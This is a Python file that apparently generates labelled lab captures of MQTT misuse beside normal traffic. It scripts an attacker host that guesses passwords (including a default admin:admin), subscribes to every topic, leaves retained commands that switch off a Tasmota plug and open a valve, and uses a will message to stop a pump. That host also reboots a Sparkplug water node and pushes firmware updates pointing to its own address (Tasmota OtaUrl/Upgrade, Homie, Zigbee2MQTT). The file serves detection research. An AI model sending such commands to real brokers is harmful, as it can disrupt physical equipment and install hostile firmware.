"""MQTT cases of misuse: guessed passwords, stolen names, curious subscriptions, commands left behind, firmware; each beside clients that do what they should."""

import hashlib
import json
import time
from pathlib import Path

import mqtt_payloads as products
import pysparkplug
from lab import case, debian, main, sh, version, wait_listening
from mqtt_actors import BROKER, BROKER_MAC, SENSOR, SERVER, SERVER_MAC, V5, WIDE, Client, hosts
from stretch import stretch

PAHO, MOSQUITTO = version("paho-mqtt"), debian("mosquitto")
START = 1777874400  # 2026-05-04 06:00:00 UTC
ATTACKER, ATTACKER_MAC = "10.20.0.66", "00:0c:29:20:00:66"
USERS = [("plant", "hT6-unlisted-pw-0831"), ("meter", "Rk2-unlisted-pw-7714")]


def attacker(lab):
    return lab.host("attacker", ATTACKER + WIDE, mac=ATTACKER_MAC)


def attempt(name, user, password, **options):
    """A login that the broker refuses."""
    client = Client(BROKER, name, user=user, password=password, **options)
    assert not client.accepted
    client.disconnect()


def report(name, value, user="meter", password=USERS[1][1]):
    """A meter that connects, says its reading and leaves."""
    client = Client(BROKER, name, user=user, password=password)
    client.publish(f"meters/{name}/reading", str(value), 1)
    client.disconnect()


@case("mqtt", MOSQUITTO, PAHO)
def login_attempts(lab):
    """A host guesses the password of the user plant: 24 times within some ten seconds, by MQTT 3.1.1 and 5, all refused. A meter with the right password connects again and again, one
    with an old password tries six times."""
    hosts(lab, users=USERS)
    guesser = attacker(lab)
    old = lab.host("old", "10.20.1.11" + WIDE, mac="24:0a:c4:20:01:0b")
    guesses = [f"plant{year}-unlisted" for year in range(2003, 2027)]

    def guess():
        for number, password in enumerate(guesses):
            attempt("paho-guess", "plant", password, **({"version": V5} if number % 2 else {}))
            time.sleep(0.2)

    with lab.capture():
        guessing = lab.start(guesser, guess)
        for turn in range(6):
            lab.run("sensor", report, "meter-10", 700 + turn)
            lab.run(old, attempt, "meter-11", "meter", "Rk1-old-unlisted-pw")
            time.sleep(0.5)
        lab.join(guessing)
    return {"broker": BROKER, "guesser": ATTACKER, "refused_guesses": 24, "refused_old_password": 6, "accepted": 6,
            "secrets_that_must_not_leak": [*guesses[:4], "Rk1-old-unlisted-pw", *(password for _, password in USERS)]}


@case("mqtt", MOSQUITTO, PAHO)
def password_guessed(lab):
    """A host guesses 24 passwords of the user admin within some ten seconds, all refused, and then the one that the product's manual names: accepted."""
    hosts(lab, users=[*USERS, ("admin", "admin")])
    guesser = attacker(lab)
    guesses = [f"admin{year}-unlisted" for year in range(2003, 2027)]

    def guess():
        for password in guesses:
            attempt("paho-guess", "admin", password)
            time.sleep(0.2)
        client = Client(BROKER, "paho-guess", user="admin", password="admin")
        assert client.accepted
        client.disconnect()

    with lab.capture():
        lab.run("sensor", report, "meter-10", 700)
        lab.run(guesser, guess)
    return {"broker": BROKER, "guesser": ATTACKER, "refused_guesses": 24, "accepted_default_pairs": ["admin:admin"],
            "secrets_that_must_not_leak": [*guesses[:4], *(password for _, password in USERS)]}


@case("mqtt", MOSQUITTO, PAHO, timestamps="stretched")
def slow_login_attempts(lab):
    """A host guesses a password every 27 minutes, 52 times in 23 hours, so that no short window sees it. A meter with the right password reports with every fourth guess, one with an
    old password tries with every fifth."""
    hosts(lab, users=USERS)
    guesser = attacker(lab)
    old = lab.host("old", "10.20.1.11" + WIDE, mac="24:0a:c4:20:01:0b")
    jumps = []
    with lab.capture("raw.pcap"):
        for turn in range(52):
            lab.run(guesser, attempt, f"probe-{turn % 3}", "plant", f"plant{turn:02d}-unlisted")
            if turn % 4 == 0:
                lab.run("sensor", report, "meter-10", 700 + turn)
            if turn % 5 == 0:
                lab.run(old, attempt, "meter-11", "meter", "Rk1-old-unlisted-pw")
            time.sleep(0.1)
            jumps.append((time.time(), 27 * 60))
            time.sleep(0.1)
    raw = lab.folder / "raw.pcap"
    end = stretch(raw, lab.folder / "capture.pcap", START, jumps[:-1])
    raw.unlink()
    return {"stretched_by": "pcaps/record/stretch.py: packets keep their spacing, 27 minutes pass after each turn", "first_time": "2026-05-04T06:00:00Z", "seconds": round(end - START),
            "broker": BROKER, "guesser": ATTACKER, "refused_guesses": 52, "refused_old_password": 11, "accepted": 13,
            "secrets_that_must_not_leak": ["plant00-unlisted", "plant51-unlisted", "Rk1-old-unlisted-pw", *(password for _, password in USERS)]}


def insist(name, seconds, **options):
    """A client that connects again a second after it was pushed out, and publishes each time."""
    client = Client(BROKER, name, **options)
    client.paho.reconnect_delay_set(1, 1)
    connected = client.paho.on_connect

    def again(paho, *rest):
        connected(paho, *rest)
        paho.publish(f"{name}/state", "here", 0)

    client.paho.on_connect = again
    time.sleep(seconds)
    client.vanish()


@case("mqtt", MOSQUITTO, PAHO)
def client_id_loop(lab):
    """Two addresses fight for the client id gate-1: whoever is pushed out connects again a second later. Beside them a client that connects five times from one address, and one that
    moves to another address once."""
    hosts(lab)
    second = attacker(lab)

    def restless():
        for turn in range(5):
            client = Client(BROKER, "flap-2")
            client.publish("flap/2/boot", str(turn), 0)
            time.sleep(0.8)
            client.vanish()

    def mover():
        client = Client(BROKER, "tram-3")
        client.publish("tram/3/stop", "Harbour", 0)
        client.disconnect()

    with lab.capture():
        fighting = [lab.start("sensor", insist, "gate-1", 8)]
        time.sleep(0.5)
        fighting.append(lab.start(second, insist, "gate-1", 7))
        others = lab.start("server", restless)
        lab.run("sensor", mover)
        lab.run("server", mover)
        lab.join(*fighting, others)
    return {"broker": BROKER, "client_id": "gate-1", "from": [SENSOR, ATTACKER], "connects_often_from_one_address": "flap-2", "moves_once": "tram-3"}


EJABBERD = """\
hosts: ["broker.city.example"]
loglevel: none
auth_method: [anonymous]
anonymous_protocol: login_anon
allow_multiple_connections: true
listen:
  - {port: 1883, module: mod_mqtt}
acl: {}
modules:
  mod_mqtt: {access_publish: {"#": [{allow: all}]}, access_subscribe: {"#": [{allow: all}]}}
"""


@case("mqtt", debian("ejabberd"), PAHO)
def session_taken_over(lab):
    """A program was started twice behind one address: two MQTT 5 clients with the client id archive-1 push each other out, and the broker (ejabberd) says so before it closes: DISCONNECT
    with reason 142. Another client moves to a new connection once."""
    for name, address, mac in (("broker", BROKER, BROKER_MAC), ("server", SERVER, SERVER_MAC)):
        lab.host(name, address + WIDE, mac=mac)
    home = lab.work / "ejabberd"
    home.mkdir()
    (home / "ejabberd.yml").write_text(EJABBERD)
    libraries = Path(sh("dpkg", "-L", "ejabberd").split("/ebin\n")[0].splitlines()[-1]).parent
    settings = {"HOME": home, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "ERL_LIBS": libraries, "EJABBERD_CONFIG_PATH": home / "ejabberd.yml", "EJABBERD_LOG_PATH": home / "ejabberd.log"}
    lab.program("broker", "erl", "-noinput", "-mnesia", "dir", f'"{home}/mnesia"', "-s", "ejabberd", env={name: str(value) for name, value in settings.items()})
    wait_listening(lab, "broker", 1883, seconds=30)
    time.sleep(1)

    def moves():
        for _ in range(2):
            client = Client(BROKER, "dashboard-2", version=V5, user="dashboard", password=USERS[0][1])
            client.paho.reconnect_delay_set(30, 60)
            client.publish("dashboard/2/hello", "1", 0)
            time.sleep(0.5)
        time.sleep(0.5)
        client.disconnect()

    with lab.capture():
        first = lab.start("server", lambda: insist("archive-1", 7, version=V5, user="archive", password=USERS[1][1]))
        time.sleep(0.5)
        second = lab.start("server", lambda: insist("archive-1", 6, version=V5, user="archive", password=USERS[1][1]))
        lab.run("server", moves)
        lab.join(first, second)
    return {"broker": BROKER, "client_id": "archive-1", "from": [SERVER], "reason_code": 142, "moves_once": "dashboard-2",
            "secrets_that_must_not_leak": [password for _, password in USERS]}


@case("mqtt", MOSQUITTO, PAHO)
def subscribe_everything(lab):
    """A curious client subscribes to #, +/# and $SYS/#; another program of its host takes all messages as a shared subscription. A dashboard asks for its own topics alone, a monitor for two values of
    $SYS."""
    hosts(lab, "sys_interval 2")
    spy = attacker(lab)

    def look():
        client = Client(BROKER, "mqtt-explorer-9c1e")
        client.subscribe(("#", 0), ("$SYS/#", 0))
        client.subscribe(("+/#", 0))
        time.sleep(1.5)
        client.disconnect()

    def take():
        client = Client(BROKER, "taker-1", version=V5)
        client.subscribe(("$share/all/#", 0))
        time.sleep(1)
        client.disconnect()

    def dashboard():
        client = Client(BROKER, "dashboard")
        client.subscribe(("street/#", 0), ("+/+/battery", 0), ("street/+/lamp/#", 0))
        client.wait_messages(4)
        client.disconnect()

    def monitor():
        client = Client(BROKER, "monitor")
        client.subscribe(("$SYS/broker/uptime", 0), ("$SYS/broker/clients/connected", 0))
        client.wait_messages(2)
        client.disconnect()

    def lamp():
        client = Client(BROKER, "lamp-7")
        client.publish("street/7/lamp/state", "on", 1, True)
        for turn in range(6):
            client.publish("street/7/battery", str(90 - turn), 1)
            time.sleep(0.2)
        client.disconnect()

    with lab.capture():
        reading = lab.start("server", dashboard)
        time.sleep(0.3)
        working = [lab.start("sensor", lamp), lab.start(spy, look), lab.start(spy, take), lab.start("server", monitor)]
        lab.join(reading, *working)
    return {"broker": BROKER, "spy": ATTACKER, "spies": ["mqtt-explorer-9c1e", "taker-1"], "filters_of_all": ["#", "+/#", "$share/all/#"], "asks_for_sys": ["monitor", "mqtt-explorer-9c1e"],
            "other_clients": ["dashboard", "lamp-7"]}


def listener(lab, client_id, *filters):
    """A device that takes its commands until the file `done` is there."""
    def body():
        client = Client(BROKER, client_id)
        client.subscribe(*((topic, 1) for topic in filters))
        while not (lab.work / "done").exists():
            time.sleep(0.02)
        client.disconnect()

    process = lab.start("sensor", body)
    time.sleep(0.4)
    return process


def finish(lab, *processes):
    time.sleep(0.3)
    (lab.work / "done").touch()
    lab.join(*processes)


@case("mqtt", MOSQUITTO, PAHO)
def retained_command(lab):
    """A host leaves commands that stay with the broker: a Tasmota switch off, a valve open. The controller of the site commands without the retain flag, devices keep their states and
    Home Assistant its announcement, and the operator deletes what was left, with an empty message."""
    hosts(lab)
    intruder = attacker(lab)

    def controller():
        client = Client(BROKER, "controller")
        client.publish("cmnd/tasmota_AB12CD/POWER", "ON", 1)
        client.publish("valve/7/set", "closed", 1)
        client.publish("tasmota_AB12CD/mode", "auto", 1, True)
        client.publish("homeassistant/switch/valve/7/set/config", json.dumps({"name": "Valve 7", "cmd_t": "valve/7/set", "uniq_id": "valve7"}), 1, True)
        client.disconnect()

    def leave():
        client = Client(BROKER, "mosq-pub-1f")
        client.publish("cmnd/tasmota_AB12CD/POWER", "OFF", 1, True)
        client.publish("valve/7/set", "open", 1, True)
        client.disconnect()

    def clean():
        client = Client(BROKER, "operator")
        for topic in ("cmnd/tasmota_AB12CD/POWER", "valve/7/set"):
            client.publish(topic, b"", 1, True)
        client.disconnect()

    with lab.capture():
        device = listener(lab, "valve-7", "valve/7/set", "cmnd/tasmota_AB12CD/#")
        lab.run("server", controller)
        lab.run(intruder, leave)
        lab.run("server", clean)
        finish(lab, device)
    return {"broker": BROKER, "intruder": ATTACKER, "retained_commands": ["cmnd/tasmota_AB12CD/POWER", "valve/7/set"], "commands_of_controller": 2}


@case("mqtt", MOSQUITTO, PAHO)
def will_on_command(lab):
    """A host connects with a last message on a pump's command topic, then breaks the connection: the broker sends the command. A sensor leaves a last message about itself, as one
    should, and breaks off too; the controller commands the pump by itself."""
    hosts(lab)
    intruder = attacker(lab)

    def controller():
        client = Client(BROKER, "controller")
        client.publish("pump/3/set", "run", 1)
        client.disconnect()

    def healthy():
        client = Client(BROKER, "level-3", will=("pump/3/level/online", "false", 1, True))
        client.publish("pump/3/level", "2.41", 1)
        client.vanish()

    def leave():
        client = Client(BROKER, "paho-0417", will=("pump/3/set", "stop", 1, False))
        client.vanish()

    with lab.capture():
        device = listener(lab, "pump-3", "pump/3/set")
        lab.run("server", controller)
        lab.run("sensor", healthy)
        lab.run(intruder, leave)
        finish(lab, device)
    return {"broker": BROKER, "intruder": ATTACKER, "will_topic": "pump/3/set", "will_of_sensor": "pump/3/level/online", "clients": ["controller", "level-3", "paho-0417", "pump-3"]}


@case("mqtt", MOSQUITTO, PAHO)
def firmware_image(lab):
    """A host publishes a program (the first 48 KB of the broker's own executable) on a topic that says nothing of firmware; a camera publishes a picture of that size."""
    hosts(lab)
    attacker(lab)
    program = Path("/usr/sbin/mosquitto").read_bytes()[:49_152]

    def push():
        client = Client(BROKER, "paho-6d10")
        client.publish("city/relay-45/blob", program, 1)
        client.disconnect()

    def camera():
        client = Client(BROKER, "camera-3")
        client.publish("city/camera-3/picture", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes((i * 37 + (i >> 3)) % 256 for i in range(49_000)), 1)
        client.disconnect()

    with lab.capture():
        lab.run("sensor", camera)
        lab.run("attacker", push)
    return {"broker": BROKER, "program_bytes": len(program)}


@case("mqtt", MOSQUITTO, PAHO, "topics after the documentation of Zigbee2MQTT, Homie for ESP8266 and ESPHome")
def firmware_topics(lab):
    """A host tells Zigbee2MQTT to update a plug, sends a Homie device an image (3,000 bytes, its MD5 in the topic), and a lamp the address of one. Zigbee2MQTT says what came of it, the
    device reports progress, and the operator asks whether there is an update, which installs nothing."""
    hosts(lab)
    intruder = attacker(lab)
    image = b"\xe9" + bytes((i * 29 + (i >> 5)) % 256 for i in range(2999))
    digest = hashlib.md5(image).hexdigest()

    def operator():
        client = Client(BROKER, "operator")
        client.publish("zigbee2mqtt/bridge/request/device/ota_update/check", '{"id":"yard_plug_1"}', 1)
        client.publish("zigbee2mqtt/yard_plug_1/set", '{"state":"ON"}', 1)
        client.disconnect()

    def push():
        client = Client(BROKER, "paho-51c2")
        client.publish("zigbee2mqtt/bridge/request/device/ota_update/update", '{"id":"yard_plug_1"}', 1)
        client.publish(f"homie/relay-45/$implementation/ota/firmware/{digest}", image, 1)
        client.publish("lamps/lamp-7/ota/url", "http://10.20.0.66/lamp.bin", 1)
        client.disconnect()

    def devices():
        client = Client(BROKER, "mqttjs_3a9f01c2")
        client.publish("zigbee2mqtt/bridge/response/device/ota_update/update", '{"data":{"id":"yard_plug_1"},"status":"ok"}', 1)
        client.publish("homie/relay-45/$implementation/ota/enabled", "true", 1, True)
        client.publish("homie/relay-45/$implementation/ota/status", "206 1500/3000", 1)
        client.disconnect()

    with lab.capture():
        device = listener(lab, "relay-45", "homie/relay-45/$implementation/ota/firmware/+", "lamps/lamp-7/ota/#", "zigbee2mqtt/bridge/request/#")
        lab.run("server", operator)
        lab.run(intruder, push)
        lab.run("server", devices)
        finish(lab, device)
    return {"broker": BROKER, "intruder": ATTACKER, "firmware_bytes": 3000, "firmware_messages": 3, "publishes_to_broker": 8}


def command(metrics):
    kind = pysparkplug.DataType
    made = [pysparkplug.Metric(timestamp=1777874402000, name=name, datatype=kind.BOOLEAN, value=True) for name in metrics]
    return lambda packet: packet(timestamp=1777874402000, metrics=made).encode(include_dtypes=True)


@case("mqtt", MOSQUITTO, PAHO, version("pysparkplug"))
def sparkplug_reboot(lab):
    """A host orders an edge node of a Sparkplug network to restart (NCMD Node Control/Reboot), then one of its devices (DCMD Device Control/Reboot). The control system asks for a rebirth
    (NCMD Node Control/Rebirth), which is usual, and the node says what it is and measures."""
    hosts(lab)
    intruder = attacker(lab)
    base, kind = "spBv1.0/CityWater/{}/station-4", pysparkplug.DataType
    metric = lambda name, datatype, value: pysparkplug.Metric(timestamp=1777874400000, name=name, datatype=datatype, value=value)

    def edge():
        will = (base.format("NDEATH"), pysparkplug.NDeath(timestamp=1777874400000, bd_seq_metric=metric("bdSeq", kind.INT64, 0)).encode(include_dtypes=True), 1, False)
        client = Client(BROKER, "edge-station-4", will=will)
        client.subscribe((base.format("NCMD"), 1), (base.format("DCMD") + "/#", 1))
        birth = pysparkplug.NBirth(timestamp=1777874400000, seq=0, metrics=[
            metric("bdSeq", kind.INT64, 0), metric("Node Control/Rebirth", kind.BOOLEAN, False), metric("Node Control/Reboot", kind.BOOLEAN, False)])
        client.publish(base.format("NBIRTH"), birth.encode(include_dtypes=True))
        client.publish(base.format("DBIRTH") + "/pump-a", pysparkplug.DBirth(timestamp=1777874400500, seq=1, metrics=[
            metric("Device Control/Reboot", kind.BOOLEAN, False), metric("Flow", kind.DOUBLE, 12.5)]).encode(include_dtypes=True))
        client.wait_messages(3)
        client.publish(base.format("DDATA") + "/pump-a", pysparkplug.DData(timestamp=1777874403000, seq=2, metrics=[metric("Flow", kind.DOUBLE, 12.75)]).encode(include_dtypes=True))
        time.sleep(0.2)
        client.vanish()

    def ask(client_id, *messages):
        client = Client(BROKER, client_id)
        for topic, payload in messages:
            client.publish(topic, payload, 1)
            time.sleep(0.2)
        client.disconnect()

    with lab.capture():
        running = lab.start("sensor", edge)
        time.sleep(0.6)
        lab.run("server", ask, "scada-host", (base.format("NCMD"), command(["Node Control/Rebirth"])(pysparkplug.NCmd)))
        lab.run(intruder, ask, "paho-77ab", (base.format("NCMD"), command(["Node Control/Reboot"])(pysparkplug.NCmd)),
                (base.format("DCMD") + "/pump-a", command(["Device Control/Reboot"])(pysparkplug.DCmd)))
        lab.join(running)
    return {"broker": BROKER, "intruder": ATTACKER, "group": "CityWater", "edge_node": "station-4", "reboots": 2, "rebirths": 1}


@case("mqtt", MOSQUITTO, PAHO, "messages and commands after the documentation of Tasmota")
def tasmota_upgrade(lab):
    """A host tells a Tasmota switch where to fetch a firmware and to install it (OtaUrl, Upgrade), and another one in a single Backlog. The fleet manager asks for the state of the
    firmware, switches, and restarts, which installs nothing. Both switches say what they are."""
    hosts(lab)
    intruder = attacker(lab)
    macs = ["BCDDC2AB12CD", "BCDDC2AB12CE"]

    def manager():
        client = Client(BROKER, "fleet-manager")
        client.publish("cmnd/tasmota_AB12CD/Status", "2", 1)
        client.publish("cmnd/tasmota_AB12CD/POWER", "ON", 1)
        client.publish("cmnd/tasmota_AB12CE/Restart", "1", 1)
        client.disconnect()

    def push():
        client = Client(BROKER, "paho-93d0")
        client.publish("cmnd/tasmota_AB12CD/OtaUrl", "http://10.20.0.66/tasmota.bin.gz", 1)
        client.publish("cmnd/tasmota_AB12CD/Upgrade", "1", 1)
        client.publish("cmnd/tasmota_AB12CE/Backlog", "OtaUrl http://10.20.0.66/tasmota.bin.gz; Upgrade 1", 1)
        client.disconnect()

    def switch(mac, ip):
        topic = f"tasmota_{mac[-6:]}"
        client = Client(BROKER, f"DVES_{mac[-6:]}", will=(f"tele/{topic}/LWT", "Offline", 1, True))
        client.publish_all(products.tasmota(mac, ip, topic, "13.3.0", "Sonoff Basic", 1))
        client.subscribe((f"cmnd/{topic}/#", 0))
        while not (lab.work / "done").exists():
            time.sleep(0.02)
        client.disconnect()

    with lab.capture():
        switches = []
        for number, mac in enumerate(macs):
            ip = f"10.20.2.{11 + number}"
            host = lab.host(f"switch{number}", ip + WIDE, mac=":".join(mac[i:i + 2] for i in range(0, 12, 2)))
            switches.append(lab.start(host, switch, mac, ip))
        time.sleep(1)
        lab.run("server", manager)
        lab.run(intruder, push)
        finish(lab, *switches)
    return {"broker": BROKER, "intruder": ATTACKER, "devices": ["tasmota_AB12CD", "tasmota_AB12CE"], "firmware_messages": 3}


if __name__ == "__main__":
    main(__file__)
